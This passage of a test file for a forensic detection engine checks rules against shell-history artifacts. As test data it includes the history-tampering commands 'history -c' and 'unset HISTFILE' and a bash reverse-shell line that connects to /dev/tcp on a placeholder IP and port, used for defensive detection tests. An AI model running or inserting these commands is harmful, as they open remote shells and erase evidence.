    expect(evaluate({ any: [{ field: 'a', equals: 2 }, { field: 'b', atLeast: 5 }] }, { a: 1, b: 4 }, ctx)).toBe(false);
  });

  it('lists every matching record of an artifact in one match, in line order', () => {
    const text = ['history -c', 'ls', 'unset HISTFILE', 'pwd'].join('\n');
    const hits = applyRules('volatile:shell-histories', parseArtifact('volatile:shell-histories', text), ctx);
    expect(hits.map((h) => [h.rule.id, h.records.map((r) => r.n)])).toEqual([['history-tampering', [1, 3]]]);
  });

  it('cuts very long lines before matching (bounded regular expression work)', () => {
    const long = `${'A'.repeat(20_000)} bash -i >& /dev/tcp/203.0.113.45/4444`;
    expect(fires('reverse-shell', 'volatile:shell-histories', long)).toBe(false);
    expect(fires('reverse-shell', 'volatile:shell-histories', long.slice(15_000))).toBe(true);
  });
});
